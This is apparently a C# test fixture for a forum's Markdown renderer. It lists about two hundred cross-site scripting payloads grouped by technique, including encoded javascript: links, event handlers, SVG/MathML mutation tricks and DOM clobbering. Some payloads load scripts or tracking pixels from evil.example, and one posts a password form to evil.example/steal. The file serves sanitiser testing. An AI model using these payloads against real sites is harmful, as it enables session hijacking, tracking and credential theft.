namespace Forum.Tests.Rendering;

/// <summary>
/// Post bodies that try to run code in a reader's browser, track the reader, or take over the page, grouped by
/// technique. Public so that browser tests can load every payload into Chromium: a payload that "works" calls
/// <c>alert(1)</c>, sets <c>window.__pwned = 1</c>, or navigates away.
/// </summary>
public static class HostileInputs
{
    public static IEnumerable<(string Technique, string Markdown)> All =>
        ScriptHtml
            .Concat(EventHandlers)
            .Concat(JavascriptLinks)
            .Concat(VbscriptLinks)
            .Concat(DataLinks)
            .Concat(OtherSchemes)
            .Concat(Autolinks)
            .Concat(ReferenceLinks)
            .Concat(Images)
            .Concat(SvgAndMathMl)
            .Concat(Base)
            .Concat(MetaRefresh)
            .Concat(Frames)
            .Concat(ObjectsAndEmbeds)
            .Concat(Forms)
            .Concat(StyleAndCss)
            .Concat(Comments)
            .Concat(Cdata)
            .Concat(Malformed)
            .Concat(DomClobbering)
            .Concat(EntitiesAndEscapes)
            .Concat(CodeBlocks);

    private static IEnumerable<(string, string)> Group(string technique, params string[] payloads) =>
        payloads.Select(p => (technique, p));

    private static IEnumerable<(string, string)> ScriptHtml => Group("script element",
        "<script>alert(1)</script>",
        "<script>window.__pwned = 1</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<<script>alert(1)//<</script>",
        "<div>\n<script>alert(1)</script>\n</div>",
        "Hello <script>alert(1)</script> world",
        "- item <script>alert(1)</script>",
        "> quote <script>alert(1)</script>",
        "# Title <script>alert(1)</script>",
        "| a |\n|---|\n| <script>alert(1)</script> |",
        "[<script>alert(1)</script>](https://example.org)",
        "[x](https://example.org \"<script>alert(1)</script>\")",
        "<script type=\"module\">window.__pwned = 1</script>",
        "<script\n>alert(1)</script\n>");

    private static IEnumerable<(string, string)> EventHandlers => Group("event handler",
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover me</div>",
        "<a href=\"#\" onclick=\"alert(1)\">click</a>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<marquee onstart=alert(1)>hi</marquee>",
        "<p onpointerenter=\"window.__pwned = 1\">text</p>",
        "[x](https://example.org \"a\\\" onmouseover=\\\"alert(1)\")",
        "[x](https://example.org\" onmouseover=\"alert(1))",
        "[x](<https://example.org\" onmouseover=\"alert(1)>)",
        "![x\" onerror=\"alert(1)](https://example.org/a.png)",
        "# Heading {onclick=alert(1)}",
        "[x](https://example.org){onclick=alert(1)}",
        "*emphasis*{onmouseover=alert(1)}",
        "Paragraph {#x .y onclick=alert(1)}",
        "<b onclick=alert(1)>bold</b>",
        "<a href=\"https://example.org\" onauxclick=alert(1)>x</a>");

    private static IEnumerable<(string, string)> JavascriptLinks => Group("javascript: link",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](JAVASCRIPT:window.__pwned=1)",
        "[x](javascript://%0aalert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](< javascript:alert(1)>)",
        "[x](javascript&colon;alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](javascript&#x3A;alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](&#0000106;avascript:alert(1))",
        "[x](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1))",
        "[x](java&#x09;script:alert(1))",
        "[x](java&#x0A;script:alert(1))",
        "[x](java&#x0D;script:alert(1))",
        "[x](java&Tab;script:alert(1))",
        "[x](java&NewLine;script:alert(1))",
        "[x](&#x01;javascript:alert(1))",
        "[x](&#x20;javascript:alert(1))",
        "[x](&#x0C;javascript:alert(1))",
        "[x](java%0ascript:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](\u0001javascript:alert(1))",
        "[x](\u0000javascript:alert(1))",
        "[x](javascript\\:alert(1))",
        "[x](\\javascript:alert(1))",
        "[x](javascript:alert&#40;1&#41;)",
        "[x](\u200Bjavascript:alert(1))",
        "[x](\uFEFFjavascript:alert(1))",
        "[x](javascript:alert(1) \"title\")",
        "[x]( javascript:alert(1) )",
        "[x](javascript:/*https://example.org*/alert(1))",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\" &#14;  javascript:alert(1)\">x</a>",
        "[a](javascript:alert(1)) and [b](https://example.org)");

    private static IEnumerable<(string, string)> VbscriptLinks => Group("vbscript: link",
        "[x](vbscript:msgbox(1))",
        "[x](VBScript:MsgBox(1))",
        "[x](&#118;bscript:msgbox(1))",
        "[x](vb&#x09;script:msgbox(1))",
        "<vbscript:msgbox(1)>",
        "[r]\n\n[r]: vbscript:msgbox(1)");

    private static IEnumerable<(string, string)> DataLinks => Group("data: link",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
        "[x](&#100;ata:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
        "[x](<data:text/html,<script>alert(1)</script>>)",
        "[x](data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E)",
        "[x](da\tta:text/html,alert)",
        "<data:text/html,%3Cscript%3Ealert(1)%3C/script%3E>");

    private static IEnumerable<(string, string)> OtherSchemes => Group("other scheme",
        "[x](file:///etc/passwd)",
        "[x](livescript:alert(1))",
        "[x](mocha:alert(1))",
        "[x](blob:https://example.org/0000)",
        "[x](filesystem:https://example.org/temporary/x)",
        "[x](view-source:https://example.org)",
        "[x](intent://example.org#Intent;scheme=javascript;end)",
        "[x](ms-its:mhtml:file://C:/x.mht!https://example.org)",
        "[x](ftp://example.org/x)",
        "[x](tel:+15555550100)",
        "[x](:javascript:alert(1))");

    private static IEnumerable<(string, string)> Autolinks => Group("autolink",
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "<javascript:window.__pwned=1>",
        "javascript:alert(1)",
        "www.example.org/\"onmouseover=\"alert(1)",
        "https://example.org/\"onmouseover=\"alert(1)",
        "https://example.org/<script>alert(1)</script>",
        "<https://example.org/\"onmouseover=\"alert(1)>",
        "<https://example.org/'onmouseover='alert(1)>",
        "ftp://example.org/file",
        "mailto:javascript:alert(1)",
        "<mailto:a@example.org?body=<script>alert(1)</script>>",
        "<a@example.org\" onclick=\"alert(1)>");

    private static IEnumerable<(string, string)> ReferenceLinks => Group("reference link",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "[x]\n\n[x]: JaVaScRiPt:alert(1)",
        "[x][r]\n\n[r]: <javascript:alert(1)>",
        "[x][r]\n\n[r]: &#106;avascript:alert(1)",
        "[x][r]\n\n[r]: data:text/html,<script>alert(1)</script>",
        "[x][r]\n\n[r]: https://example.org \"a\\\" onclick=\\\"alert(1)\"",
        "[x][]\n\n[x]: java&#x09;script:alert(1)",
        "[r]\n\n[r]:\n  javascript:alert(1)",
        "![x][r]\n\n[r]: javascript:alert(1)",
        "![x][r]\n\n[r]: https://evil.example/pixel.png");

    private static IEnumerable<(string, string)> Images => Group("image",
        "![x](javascript:alert(1))",
        "![tracking pixel](https://evil.example/pixel.png)",
        "![x](//evil.example/pixel.gif)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x](x\" onerror=\"alert(1))",
        "![<img src=x onerror=alert(1)>](https://example.org/a.png)",
        "![x](https://example.org/a.png \"t\\\" onload=\\\"alert(1)\")",
        "[![x](javascript:alert(1))](https://example.org)",
        "[![x](https://evil.example/p.png)](javascript:alert(1))",
        "![](https://evil.example/empty-alt.png)",
        "![x](<https://evil.example/a b.png>)",
        "<img src=\"https://evil.example/p.png\">",
        "<img src=x onerror=alert(1)//",
        "<picture><source srcset=\"https://evil.example/p.png\"><img></picture>",
        "<image src=x onerror=alert(1)>");

    private static IEnumerable<(string, string)> SvgAndMathMl => Group("svg and mathml",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>");

    private static IEnumerable<(string, string)> Base => Group("base",
        "<base href=\"javascript:alert(1)//\">",
        "<base href=\"https://evil.example/\">[x](relative)",
        "<base target=\"_blank\">",
        "<BASE HREF=//evil.example/>");

    private static IEnumerable<(string, string)> MetaRefresh => Group("meta refresh",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<meta http-equiv=refresh content=\"0; url=https://evil.example\">",
        "<meta charset=\"utf-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
        "<meta name=\"referrer\" content=\"unsafe-url\">");

    private static IEnumerable<(string, string)> Frames => Group("iframe and frame",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<IFRAME SRC=\"javascript:window.__pwned=1\"></IFRAME>",
        "<portal src=\"https://evil.example\"></portal>");

    private static IEnumerable<(string, string)> ObjectsAndEmbeds => Group("object and embed",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<applet code=\"x\"></applet>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<object><param name=\"src\" value=\"javascript:alert(1)\"></object>");

    private static IEnumerable<(string, string)> Forms => Group("form and formaction",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<form><input type=\"submit\" formaction=\"javascript:alert(1)\"></form>",
        "<input type=\"image\" src=\"x\" formaction=\"javascript:alert(1)\">",
        "<isindex action=\"javascript:alert(1)\" type=\"image\">",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<select autofocus onfocus=alert(1)></select>",
        "<keygen autofocus onfocus=alert(1)>",
        "<form action=\"https://evil.example/steal\"><input name=\"password\" type=\"password\"></form>",
        "<button form=\"logout\" formmethod=\"post\">Log out</button>");

    private static IEnumerable<(string, string)> StyleAndCss => Group("style and css",
        "<style>*{background:url(javascript:alert(1))}</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<p style=\"behavior:url(x.htc)\">x</p>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</div>",
        "| left | right |\n|:-----|------:|\n| a | b |",
        "<span style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</span>",
        "<style>body{display:none}</style>");

    private static IEnumerable<(string, string)> Comments => Group("comment",
        "<!-- <script>alert(1)</script> -->",
        "<!--><script>alert(1)</script>-->",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<!-- --!><script>alert(1)</script>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<? alert(1) ?>",
        "<!--",
        "text <!-- unterminated <script>alert(1)</script>");

    private static IEnumerable<(string, string)> Cdata => Group("cdata",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
        "<math><![CDATA[</math><img src=x onerror=alert(1)>]]>",
        "<![CDATA[ ]]><script>alert(1)</script>");

    private static IEnumerable<(string, string)> Malformed => Group("unclosed and mis-nested",
        "<script>alert(1)",
        "<img src=x onerror=alert(1)",
        "<a href=\"javascript:alert(1)\"",
        "<b><i>x</b></i><script>alert(1)</script>",
        "<p><div><script>alert(1)</script></p>",
        "<table><script>alert(1)</script></table>",
        "<select><style><img src=x onerror=alert(1)></style></select>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<title><img src=x onerror=alert(1)></title>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "</p><script>alert(1)</script>",
        "<img/src=x/onerror=alert(1)>",
        "<img\tsrc=x\nonerror=alert(1)>",
        "*<script>*alert(1)*</script>*",
        "[<a href=\"javascript:alert(1)\">x</a>](https://example.org)",
        "<a href=\"https://example.org\">[x](javascript:alert(1))</a>",
        "<template><script>alert(1)</script></template>",
        "<plaintext><script>alert(1)</script>",
        "<div><div><div><a href=javascript:alert(1)>deep</a>");

    private static IEnumerable<(string, string)> DomClobbering => Group("dom clobbering",
        "<a id=\"__pwned\" href=\"https://example.org\">x</a>",
        "<form name=\"getElementById\"></form>",
        "<img name=\"cookie\">",
        "<input id=\"attributes\">",
        "# __pwned {#__pwned}",
        "[x](#__pwned){id=__pwned}",
        "<a name=\"location\">x</a>",
        "<div id=\"CONFIG\"><div id=\"CONFIG\" name=\"url\"></div></div>",
        "# location",
        "<object name=\"defaultView\"></object>");

    private static IEnumerable<(string, string)> EntitiesAndEscapes => Group("entities and escapes",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\<script>alert(1)\\</script>",
        "<scr\\ipt>alert(1)</scr\\ipt>",
        "&#x3C;img src=x onerror=alert(1)&#x3E;",
        "`<script>alert(1)</script>`",
        "[x](https://example.org \"title\" onclick=\"alert(1)\")",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
        "\u0000<script>alert(1)</script>",
        "<scr\u0000ipt>alert(1)</scr\u0000ipt>");

    private static IEnumerable<(string, string)> CodeBlocks => Group("code block",
        "```\"><script>alert(1)</script>\ncode\n```",
        "```js onclick=alert(1)\ncode\n```",
        "```<img src=x onerror=alert(1)>\ncode\n```",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "    <script>alert(1)</script>",
        "```x\" style=\"position:fixed\ncode\n```");
}
